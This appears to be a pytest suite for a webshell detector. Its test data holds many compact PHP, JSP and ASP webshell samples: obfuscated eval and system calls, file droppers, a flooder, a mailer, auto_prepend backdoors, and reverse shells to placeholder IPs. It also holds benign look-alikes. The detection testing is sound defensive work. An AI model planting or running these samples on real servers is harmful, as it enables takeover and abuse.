"""The PHP view: each webshell technique, written small for the test, is critical; look-alikes not.

Every sample is presented the hard way: as a modification of an approved PHP file in a neutral
folder, so that no path rule helps and only what the content does counts.
"""

from __future__ import annotations

import base64
import codecs
import zlib
from pathlib import Path

import pytest

from gitguard.detect import Side, critical_reasons
from gitguard.detect.common import _Doc
from gitguard.detect.php import analyse, tokenize, worth
from gitguard.detect.rules import reason_codes
from gitguard.model import Change, Kind, Reason
from gitguard.report.reasons import REASONS

APPROVED = b"<?php\n/* Modul layanan: disetujui. */\nrequire __DIR__ . '/fungsi.php';\n"
WORDPRESS = Path("/usr/share/wordpress")


def side(data: bytes) -> Side:
    return Side(Kind.FILE, 0o644, data, None)


def modified(new: bytes | str, path: str = "lib/modul/layanan.php") -> list[Reason]:
    data = new.encode() if isinstance(new, str) else new
    return critical_reasons(path, Change.MODIFIED, side(APPROVED), side(data))


def codes(reasons: list[Reason]) -> set[str]:
    return {reason.code for reason in reasons}


def gz_b64(code: str) -> str:
    """`code` the way packers ship it: raw deflate, then base64."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = raw.compress(code.encode()) + raw.flush()
    return base64.b64encode(packed).decode()


# (name, sample, a reason code it must give). Written for these tests, not copied.
SHELLS = [
    # superglobals built at run time
    ("xor-superglobal", """<?php $k = "~+d()" ^ "!{+{}"; ${$k}['x']($_POST['y']);""",
     "code_from_request"),
    ("concat-superglobal", "<?php $c = ${'_' . 'PO' . 'ST'}['c']; system($c);",
     "shell_from_request"),
    ("globals-lookup", "<?php $g = $GLOBALS['_GET']; passthru($g['cmd']);", "shell_from_request"),
    ("extract", "<?php extract($_REQUEST); $fungsi($argumen);", "code_from_request"),
    ("parse-str", "<?php parse_str($_SERVER['QUERY_STRING']); eval($kode);",
     "code_from_request"),
    ("getenv-header", "<?php $p = getenv('HTTP_X_PERINTAH'); echo shell_exec($p);",
     "shell_from_request"),
    ("server-header", "<?php $h = $_SERVER['HTTP_ACCEPT_LANGUAGE']; assert($h);",
     "code_from_request"),
    # callbacks and odd sinks
    ("assert-wrapper", "<?php function periksa($isi) { return assert($isi); }\n"
     "periksa($_POST['isi']);", "code_from_request"),
    ("array-map-var", "<?php $f = $_GET['f']; array_map($f, array($_GET['a']));",
     "code_from_request"),
    ("array-filter", "<?php array_filter(array($_POST['a']), $_POST['f']);", "code_from_request"),
    ("usort", "<?php $d = array($_POST['a'], 1); usort($d, $_COOKIE['cb']);",
     "code_from_request"),
    ("uasort-runner", "<?php $d = array($_POST['a'] => 1); uasort($d, 'assert');",
     "callback_exec"),
    ("array-walk", "<?php $d = array($_POST['a']); array_walk($d, 'system');", "callback_exec"),
    ("call-user-func-array", "<?php call_user_func_array($_REQUEST['f'], array($_REQUEST['a']));",
     "code_from_request"),
    ("shutdown", "<?php register_shutdown_function('system', $_POST['c']);", "callback_exec"),
    ("tick", "<?php declare(ticks=1); register_tick_function('assert', $_POST['c']);",
     "callback_exec"),
    ("callback-filter-iterator", "<?php $it = new ArrayIterator(array($_GET['a']));\n"
     "foreach (new CallbackFilterIterator($it, $_GET['f']) as $x) {}", "code_from_request"),
    ("sqlite-create-function", "<?php $db = new SQLite3(':memory:');\n"
     "$db->createFunction('f', $_GET['cb']); $db->query(\"SELECT f('x')\");", "code_from_request"),
    ("mb-ereg-e", "<?php mb_ereg_replace('.*', $_POST['c'], 'x', 'e');", "preg_replace_eval"),
    ("preg-callback", "<?php preg_replace_callback('/.+/', $_POST['f'], $_POST['s']);",
     "code_from_request"),
    ("create-function", "<?php $f = create_function('', $_POST['kode']); $f();",
     "code_from_request"),
    ("reflection", "<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);",
     "code_from_request"),
    ("variable-function", "<?php $f = $_POST['f']; $f($_POST['x']);", "code_from_request"),
    ("new-class", "<?php $k = $_GET['k']; $o = new $k($_GET['a']);", "code_from_request"),
    ("include-request", "<?php include $_GET['halaman'];", "include_request"),
    ("include-upload", "<?php include $_FILES['f']['tmp_name'];", "include_request"),
    ("include-remote", "<?php require_once 'http://cdn-pemkab.example.net/x.php';",
     "remote_fetch"),
    ("include-input", "<?php include 'php://input';", "include_request"),
    ("include-data", "<?php include 'data://text/plain;base64,' . $_GET['p'];",
     "include_request"),
    ("backticks", "<?php echo `{$_GET['c']}`;", "shell_from_request"),
    # names hidden from a text search
    ("hex-escaped-name", '<?php $d = "\\x62ase64_decode"; $k = $d("aWQ="); echo $k;',
     "hidden_call"),
    ("octal-escaped-system", '<?php $s = "\\163\\171\\163\\164\\145\\155"; $s("id");',
     "hidden_call"),
    ("rot13-name", "<?php $f = str_rot13('flfgrz'); $f('uname -a');", "code_from_decoded"),
    ("strrev-name", "<?php $f = strrev('tressa'); $f('phpinfo()');", "code_from_decoded"),
    ("chr-name", "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f('id');",
     "code_from_decoded"),
    ("str-replace-name", "<?php $f = str_replace('#', '', 'sy#st#em'); $f('id');",
     "hidden_call"),
    ("substr-name", "<?php $f = substr('xxpassthruyy', 2, 8); $f('id');", "hidden_call"),
    ("implode-name", "<?php $f = implode('', array('sh', 'ell_', 'exec')); echo $f('id');",
     "hidden_call"),
    ("pack-name", "<?php $f = pack('H*', '73797374656d'); $f('id');", "hidden_call"),
    ("string-index-name", "<?php $a = 'abcdefghijklmnopqrstuvwxyz';\n"
     "$f = $a[18] . $a[24] . $a[18] . $a[19] . $a[4] . $a[12]; $f('id');", "hidden_call"),
    ("variable-variable", "<?php $n = 'fu'; $fu = 'sys' . 'tem'; $$n('id');", "hidden_call"),
    ("eval-gzinflate", f"<?php eval(gzinflate(base64_decode('{gz_b64('echo 1;')}')));",
     "code_from_decoded"),
    # file writers, droppers, reverse shells, mailers, file managers
    ("put-contents", "<?php file_put_contents($_POST['nama'], $_POST['isi']);", "file_dropper"),
    ("fopen-fwrite", "<?php $h = fopen($_GET['f'], 'w'); fwrite($h, $_POST['isi']); fclose($h);",
     "file_dropper"),
    ("move-uploaded", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
     "file_dropper"),
    ("remote-dropper", "<?php copy('http://contoh.example.net/s.txt', 'wp-cache.php');",
     "remote_fetch"),
    ("request-dropper", "<?php $u = $_GET['u']; copy($u, 'wp-cache.php');", "file_dropper"),
    ("download-dropper", "<?php $k = file_get_contents($_POST['sumber']);\n"
     "file_put_contents('tema-footer.php', $k);", "file_dropper"),
    ("reverse-proc-open", "<?php $s = fsockopen('203.0.113.9', 4444);\n"
     "$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);", "reverse_shell"),
    ("reverse-loop", "<?php $s = fsockopen('198.51.100.7', 53);\n"
     "while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }", "reverse_shell"),
    ("mailer", "<?php mail($_POST['kepada'], $_POST['judul'], $_POST['isi'], 'From: x@y');",
     "mailer"),
    ("file-manager", "<?php if (md5($_POST['kunci']) !== '5f4dcc3b5aa765d61d8327deb882cf99') "
     "exit;\n$p = $_REQUEST['p'];\nif ($_GET['a'] == 'hapus') unlink($p);\n"
     "if ($_GET['a'] == 'ganti') touch($p);\nif ($_GET['a'] == 'mode') "
     "chmod($p, 0777);\nif ($_GET['a'] == 'lihat') readfile($p);\nforeach (scandir($p) as $f) "
     "echo $f;\nif ($_GET['a'] == 'buat') mkdir($p);", "file_manager"),
    # family names the kits print
    ("wso", "<?php $default_action = 'FilesMan'; @define('WSO_VERSION', '2.5');",
     "webshell_marker"),
    ("b374k", "<?php $GLOBALS['module']['b374k'] = 'explorer';", "webshell_marker"),
    ("c99", "<?php $shell_title = 'c99shell'; echo $shell_title;", "webshell_marker"),
    ("r57", "<?php echo '<title>r57shell</title>';", "webshell_marker"),
    ("indoxploit", "<?php echo '<title>IndoXploit Shell</title>';", "webshell_marker"),
    # other forms
    ("gif-polyglot", b"GIF89a;\n<?php echo 'ok'; ?>", "image_polyglot"),
    # callables kept in arrays, callbacks into the file's own functions and methods
    ("array-element-callable", "<?php $peta = array('jalan' => 'assert');\n"
     "$peta['jalan']($_POST['isi']);", "code_from_request"),
    ("element-assigned-callable", "<?php $t = array(); $t['x'] = 'system';\n"
     "$t['x']($_GET['perintah']);", "shell_from_request"),
    ("array-map-method", "<?php class Jalan { function lari($x) { return assert($x); } }\n"
     "array_map(array(new Jalan, 'lari'), array($_POST['x']));", "code_from_request"),
    ("array-map-short-method", "<?php class Alat { public function pakai($p) { system($p); } }\n"
     "$o = new Alat(); array_map([$o, 'pakai'], [$_GET['p']]);", "shell_from_request"),
    ("string-callback-function", "<?php function olah($s) { eval($s); }\n"
     "array_walk($_COOKIE, 'olah');", "code_from_request"),
    ("ob-start-closure", "<?php $kode = '';\n"
     "ob_start(function ($isi) { global $kode; $kode = $isi; return ''; });\n"
     "echo $_POST['k']; ob_end_flush(); assert($kode);", "code_from_request"),
    ("ob-start-named", "<?php function tangkap($isi) { eval($isi); return ''; }\n"
     "ob_start('tangkap'); echo $_REQUEST['k']; ob_end_flush();", "code_from_request"),
    ("diff-ukey-explode", "<?php $bagian = explode('-', 'x-sys-tem-y');\n"
     "array_diff_ukey(array($_GET['c'] => 1), array(1), $bagian[1] . $bagian[2]);",
     "callback_exec"),
    ("str-split-reversed", "<?php $h = str_split('metsys');\n"
     "$f = implode('', array_reverse($h)); $f($_POST['c']);", "hidden_call"),
    ("xor-key-callback", "<?php $kunci = substr(__FILE__, -6, 2);\n"
     "array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), pack('H*', '1d0b') ^ $kunci);",
     "code_from_request"),
    ("file-name-callable", "<?php $nama = basename(__FILE__, '.php');\n$nama($_POST['p']);",
     "code_from_request"),
    # register_globals shells: variables the file never assigns come from the request
    ("register-globals-upload", "<?php\nmove_uploaded_file($berkas, 'tema.php');",
     "file_dropper"),
    ("register-globals-command", "<?php\nif ($jalankan) { system(\"$perintah 2>&1\"); }",
     "shell_from_request"),
    ("register-globals-mailer", "<?php\nif ($kirim) { mail($kepada, $judul, $pesan, "
     "\"From: $dari\"); }", "mailer"),
    # the Turkish file managers' editor: a path and a content the file never assigns
    ("register-globals-writer", "<?php if ($simpan > \"\") {\n$h = fopen($berkas, 'w');\n"
     "fwrite($h, $isi);\nfclose($h); }", "file_dropper"),
    # flooders: the visitor names the host the server sends packets to
    ("flooder", "<?php set_time_limit(0); $sasaran = $_GET['sasaran'];\nwhile (true) {\n"
     "$s = fsockopen('udp://' . $sasaran, rand(1, 65000));\nfwrite($s, str_repeat('X', 512));"
     " }", "flooder"),
    # a name put together by removing pieces, and a stream the request picks, called
    ("array-diff-name", "<?php $n = join(array_diff(['pa', 'x', 'ss', 'thru'], ['x']));\n"
     "array_map($n, [$_POST['c']]);", "callback_exec"),
    ("closure-from-callable", "<?php $n = implode('', ['sys', 'tem']);\n"
     "Closure::fromCallable($n)($_GET['c']);", "callback_exec"),
    ("request-stream-called", "<?php $s = $_GET['s'];\n"
     "file_get_contents('php' . $s)($_POST['c']);", "code_from_decoded"),
    # a callable kept in an array appended to another array
    ("appended-array-callable", "<?php $kunci['jalan'] = 'assert'; $daftar[] = $kunci;\n"
     "$daftar[0]['jalan']($_POST['k']);", "code_from_request"),
    # register_globals rebuilt by hand: every request value becomes a variable
    ("variable-variables-flood", "<?php foreach (array('_GET', '_POST') as $sumber) {\n"
     "foreach ($$sumber as $k => $v) { $$k = $v; } }\n"
     "$perintah = isset($perintah) ? $perintah : 'uptime';\nsystem($perintah);",
     "shell_from_request"),
    # the shell functions a kit tries one after another
    ("exec-function-list", "<?php foreach (array('system', 'passthru', 'shell_exec') as $f) {\n"
     "if (function_exists($f)) { $f($_GET['c']); break; } }", "shell_from_request"),
    # a sink behind two functions that hand their parameter on
    ("wrapper-chain", "<?php function baca($p) { return @file_get_contents($p); }\n"
     "function muat($n) { jalankan(baca($n)); }\nfunction jalankan($k) { eval($k); }\n"
     "muat($_GET['n']);", "code_from_request"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "sample", "code"), SHELLS, ids=[s[0] for s in SHELLS])
def test_technique_is_critical(name: str, sample: str | bytes, code: str) -> None:
    reasons = modified(sample)
    assert code in codes(reasons), reasons
    for reason in reasons:
        assert reason.code in REASONS
        assert len(reason.detail) <= 80 and "\n" not in reason.detail


def test_deep_packing_is_read_through() -> None:
    # system($_GET[...]) packed four times over: rot13 of base64 of gzip, inside an eval each.
    layer = "system($_GET['c']);"
    for _ in range(3):
        layer = f"eval(gzinflate(base64_decode('{gz_b64(layer)}')));"
    sample = f'<?php eval(str_rot13("{codecs.encode(layer, "rot13")}"));'
    found = {f.code for f in analyse(sample.encode())}
    assert "shell_from_request" in found and "code_from_decoded" in found


@pytest.mark.parametrize(
    "ext", ["phtml", "pht", "php5", "php7", "phar", "inc"],
)
def test_other_php_extensions(ext: str) -> None:
    reasons = modified("<?php $f = 'sys'.'tem'; $f('id');", f"lib/modul/layanan.{ext}")
    assert "hidden_call" in codes(reasons)


@pytest.mark.parametrize(
    ("path", "sample", "code"),
    [
        ("app/cmd.jsp", '<%@ page import="java.io.*" %><% String c = request.getParameter("c");\n'
         'Process p = Runtime.getRuntime().exec(c); %>', "shell_from_request"),
        ("app/pb.jsp", '<% String[] c = {"/bin/sh", "-c", request.getParameter("x")};\n'
         "new ProcessBuilder(c).start(); %>", "shell_from_request"),
        ("app/cls.jsp", "<% byte[] b = new sun.misc.BASE64Decoder().decodeBuffer("
         "request.getReader().readLine());\nnew U(this.getClass().getClassLoader()).defineClass(b)"
         ".newInstance(); %>", "code_from_request"),
        ("app/x.asp", '<% Set s = CreateObject("WScript.Shell")\nSet o = s.Exec(Request("c")) %>',
         "shell_from_request"),
        ("app/x.aspx", '<%@ Page Language="C#" %><% var i = new System.Diagnostics.'
         'ProcessStartInfo("cmd.exe", "/c " + Request["c"]); System.Diagnostics.Process.Start(i);'
         " %>", "shell_from_request"),
        ("app/y.aspx", '<%@ Page Language="Jscript" %><% eval(Request.Item["z"], "unsafe"); %>',
         "code_from_request"),
        ("app/balik.asp", '<% k = Request.Form("k")\n'
         "Function Balik(s): Balik = StrReverse(s): End Function\nExecute(Balik(k)) %>",
         "code_from_request"),
        ("app/unggah.asp", '<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
         'Set f = fs.CreateTextFile(Server.MapPath(Request.Form("nama")), True)\n'
         'f.Write Request.Form("isi") %>', "file_dropper"),
        ("app/jauh.jsp", '<% String c = request.getParameter("c");\n' + "// catatan\n" * 80
         + "Process p = Runtime.getRuntime().exec(c); %>", "shell_from_request"),
    ],
)  # fmt: skip
def test_jsp_and_asp_shells(path: str, sample: str, code: str) -> None:
    old = side(b"<% ' disetujui %>")
    reasons = critical_reasons(path, Change.MODIFIED, old, side(sample.encode()))
    assert code in codes(reasons), reasons


def test_asp_pages_that_only_read_the_request() -> None:
    page = (
        '<% Execute("Dim hitung") : nama = Request.Form("nama")\n'
        "Response.Write Server.HTMLEncode(nama)\n"
        'Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
        'Set log = fs.CreateTextFile(Server.MapPath("log/kunjungan.txt"), True) %>'
    )
    old = side(b"<% ' disetujui %>")
    assert critical_reasons("app/tamu.asp", Change.MODIFIED, old, side(page.encode())) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (".user.ini", "auto_prepend_file = /tmp/.sess_a81f.php\n"),
        (".htaccess", "php_value auto_prepend_file /var/tmp/.x.php\n"),
    ],
)
def test_auto_prepend_file(name: str, content: str) -> None:
    reasons = critical_reasons(name, Change.MODIFIED, side(b"; ok\n"), side(content.encode()))
    assert "config_prepend" in codes(reasons)


@pytest.mark.parametrize(
    ("sample", "code"),
    [
        (b"\n?>\n<?php $k = \"~+d()\" ^ \"!{+{}\"; ${$k}['x']($_POST['y']); ?>\n",
         "code_from_request"),
        # The host names neither variable: after its `?>`, a block of its own reads them unset.
        (b'\n?>\n<?php if ($jalankan) { system("$perintah 2>&1"); } ?>\n', "shell_from_request"),
    ],
)  # fmt: skip
def test_appended_to_a_real_file(sample: bytes, code: str) -> None:
    host = (WORDPRESS / "wp-includes" / "class-wp-role.php").read_bytes()
    reasons = critical_reasons(
        "wp-includes/class-wp-role.php", Change.MODIFIED, side(host), side(host + sample)
    )
    assert code in codes(reasons)


# --- benign look-alikes: none of these may be critical --------------------------------------

TRANSLATIONS = {
    "ru": "Добро пожаловать на официальный сайт администрации. Сведения о порядке обращения",
    "zh": "欢迎访问政府官方网站。本站提供政务公开、办事服务、互动交流等栏目的信息与在线服务功能。",
    "ar": "مرحبا بكم في الموقع الرسمي للحكومة المحلية. يقدم الموقع خدمات إلكترونية ومعلومات عامة",
    "te": "ప్రభుత్వ అధికారిక వెబ్‌సైట్‌కు స్వాగతం. ఇక్కడ పౌర సేవలు మరియు సమాచారం అందుబాటులో ఉన్నాయి",
}  # fmt: skip


def _translation_file(text: str) -> bytes:
    rows = "\n".join(f"    'pesan_{i}' => '{text} {i}'," for i in range(40))
    escaped = "".join(f"\\x{b:02x}" for b in text.encode())
    return (
        f"<?php\n// Terjemahan\nreturn array(\n{rows}\n    'panjang' => '{text * 4}',\n"
        f'    \'escaped\' => "{escaped}",\n);\n'
    ).encode()


@pytest.mark.parametrize("lang", sorted(TRANSLATIONS))
def test_translations_are_not_obfuscation(lang: str) -> None:
    assert modified(_translation_file(TRANSLATIONS[lang])) == []


def test_non_latin_evidence_is_cut_on_character_boundaries() -> None:
    text = TRANSLATIONS["te"] * 3
    reasons = modified(f"<?php\n/* {text} */\neval(base64_decode($_POST['{text[:30]}']));")
    assert reasons
    for reason in reasons:
        reason.detail.encode("utf-8")  # valid text
        assert "\ufffd" not in reason.detail and len(reason.detail) <= 80


PNG_B64 = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8).decode()

BENIGN = {
    "phpunit-test": """<?php
use PHPUnit\\Framework\\TestCase;
final class ValidatorTest extends TestCase {
    public function testRejectsShellMetacharacters(): void {
        $this->assertFalse(Validator::isSafe('a; rm -rf /'));
        $this->assertTrue(Validator::isSafe('laporan-2024.pdf'));
        $output = shell_exec('git --version');
        $this->assertStringStartsWith('git version', $output);
        assert(is_string($output));
    }
}
""",
    "build-script": """#!/usr/bin/env php
<?php
if (PHP_SAPI !== 'cli') { exit(1); }
$installer = file_get_contents('https://getcomposer.org/installer');
file_put_contents(__DIR__ . '/composer-setup.php', $installer);
passthru(PHP_BINARY . ' composer-setup.php --quiet');
""",
    "url-validator": r"""<?php
function is_valid_url(string $url): bool {
    return (bool) preg_match('~^(?:(?:https?|ftp)://)(?:\S+(?::\S*)?@)?(?:(?!(?:10|127)(?:\.\d{1,3}){3})(?!(?:169\.254|192\.168)(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\x{00a1}-\x{ffff}0-9]-*)*[a-z\x{00a1}-\x{ffff}0-9]+)(?:\.(?:[a-z\x{00a1}-\x{ffff}0-9]-*)*[a-z\x{00a1}-\x{ffff}0-9]+)*(?:\.(?:[a-z\x{00a1}-\x{ffff}]{2,}))\.?)(?::\d{2,5})?(?:[/?#]\S*)?$~iu', $url);
}
$email = '/^[_a-z0-9-]+(\.[_a-z0-9-]+)*@[a-z0-9-]+(\.[a-z0-9-]+)*(\.[a-z]{2,})$/';
""",  # noqa: E501 (a real validator is one long line)
    "router": """<?php
$allowed = array('beranda', 'profil', 'berita');
$page = isset($_GET['page']) ? $_GET['page'] : 'beranda';
if (!in_array($page, $allowed, true)) { $page = 'beranda'; }
include __DIR__ . '/halaman/' . $page . '.php';
$sorted = $data; usort($sorted, function ($a, $b) { return strcmp($a['nama'], $b['nama']); });
array_map('trim', $_POST);
""",
    "upload-form": """<?php
if (isset($_FILES['berkas'])) {
    $name = basename($_FILES['berkas']['name']);
    $ext = strtolower(pathinfo($name, PATHINFO_EXTENSION));
    if (in_array($ext, array('pdf', 'jpg', 'png'), true)) {
        $to = __DIR__ . '/unggahan/' . uniqid() . '.' . $ext;
        move_uploaded_file($_FILES['berkas']['tmp_name'], $to);
    }
}
mail('admin@sukamajukab.go.id', 'Pesan baru', $_POST['pesan']);
""",
    "minified": "<?php " + "".join(
        f"function f{i}($a,$b=null){{return is_array($a)?array_map('strval',$a):(string)$a.$b;}}"
        for i in range(60)
    ) + "\n",
    "embedded-image": "<?php $logo = '" + PNG_B64 + "';\n",
    "page-cache": """<?php
function simpan_cache($html) { file_put_contents(__DIR__ . '/cache/beranda.html', $html); return $html; }
ob_start('simpan_cache');
ob_start(function ($isi) { return str_replace('  ', ' ', $isi); });
""",  # noqa: E501
    "method-callbacks": """<?php
class Format { public function bersih($s) { return trim(strip_tags($s)); } }
$data = array_map(array(new Format, 'bersih'), $_POST);
usort($baris, [$this, 'bandingkan']);
$warna = explode(',', 'merah,hijau,biru'); echo $warna[1];
$fungsi = array('judul' => 'ucfirst'); echo $fungsi['judul']($_GET['q']);
""",
    "hmac": """<?php
function hmac($kunci, $pesan) {
    $ipad = str_repeat(chr(0x36), 64) ^ str_pad($kunci, 64, chr(0));
    return md5($ipad . $pesan);
}
echo hmac($_GET['k'], 'x');
""",
    "file-writer-function": """<?php
function simpan($berkas, $isi) { $h = fopen($berkas, 'w'); fwrite($h, $isi); fclose($h); }
$tujuan = __DIR__ . '/cache/statistik.json';
$h = fopen($tujuan, 'w'); fwrite($h, json_encode(array('kunjungan' => 10))); fclose($h);
""",
    "port-check": """<?php
$s = @fsockopen('smtp.sukamajukab.go.id', 25, $errno, $errstr, 5);
$t = @fsockopen($config['db_host'], 3306);
echo $s ? 'SMTP aktif' : 'SMTP mati';
""",
    "language-file": """<?php
$bahasa = file_get_contents(__DIR__ . '/bahasa/' . basename($_GET['l']) . '.json');
echo htmlspecialchars($bahasa);
$sisa = array_diff(array('a', 'b', 'c'), array('b')); echo implode(',', $sisa);
""",
    "arrays-and-fields": """<?php
$baris[] = array('nama' => 'Budi', 'jabatan' => 'Kasubbag');
echo htmlspecialchars($baris[0]['nama']);
foreach (array('judul', 'isi') as $kolom) { $$kolom = htmlspecialchars($data[$kolom]); }
echo $judul . $isi;
foreach (array('trim', 'strip_tags') as $saring) { $nama = $saring($_POST['nama']); }
""",
    "file-name-loader": """<?php
$dasar = basename(__FILE__, '.php');
require __DIR__ . '/modul/' . $dasar . '-fungsi.php';
call_user_func($dasar . '_init');
""",
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_look_alikes(name: str) -> None:
    assert modified(BENIGN[name]) == []


def test_wordpress_core_sample_is_not_critical() -> None:
    # A fixed spread of core files, each as new content of an approved file (fast: a sample).
    files = sorted(WORDPRESS.rglob("*.php"))
    assert len(files) > 500, "Debian's wordpress package is needed"
    for path in files[::25]:
        reasons = modified(path.read_bytes())
        assert reasons == [], (path, reasons)


@pytest.mark.parametrize(
    ("code", "needed"),
    [
        (b"<?php $total = $a + $b; echo htmlspecialchars($judul);", False),
        (b"<?php /* catatan */ $x = array('a' => 1); return $x;", False),
        (b"<?php $f = 'sys' . 'tem'; $f /* jeda */ ('id');", True),
        (b"<?php ('sys' . 'tem')('id');", True),
        (b"<?php \"\\x73ystem\"('id');", True),
        (b"<?php $a['x']($_POST['y']);", True),
        (b"<?php $o = new $kelas($_GET['a']);", True),
        (b"<?php echo `ls $dir`;", True),
        (b"<?php array_map($f, $_POST);", True),
        (b"<?php include $halaman;", True),
    ],
)
def test_prefilter_spares_only_code_that_calls_nothing(code: bytes, needed: bool) -> None:
    doc = _Doc("x.php", code)
    assert worth(doc.words, doc.lower) is needed
    if not needed:
        assert analyse(code) == []  # what the prefilter spares, the reader finds nothing in


def test_tokens_and_folding() -> None:
    toks = tokenize(b"<html><?php echo 'a\\'b' . \"\\x41\\101\\u{263A}\"; ?>tail<?= $x ?>")
    assert [t.kind for t in toks] == ["i", "s", "o", "e", "o", "o", "i", "v", "o"]
    assert toks[1].value == b"a'b" and toks[3].value == "AA☺".encode()


def test_every_code_has_texts() -> None:
    for code in reason_codes():
        assert set(REASONS[code]) == {"en", "id"}, code
        for text in REASONS[code].values():
            assert "{detail}" in text, code


def test_bounded_on_hostile_input() -> None:
    nested = "<?php $a = " + "(" * 5000 + "1" + ")" * 5000 + "; " + "$b = $b . 'x'; " * 3000
    analyse(nested.encode())  # no recursion error, no blow-up
    bomb = f"<?php eval(gzinflate(base64_decode('{gz_b64('/*' + ' ' * (4 << 20) + '*/')}')));"
    assert {f.code for f in analyse(bomb.encode())} == {"code_from_decoded"}
    # A token no statement starts with, inside a closure, once made the reader loop forever.
    stray = b"<?php $f = function () { => ; };\nsystem($_GET['c']);"
    assert {f.code for f in analyse(stray)} == {"shell_from_request"}
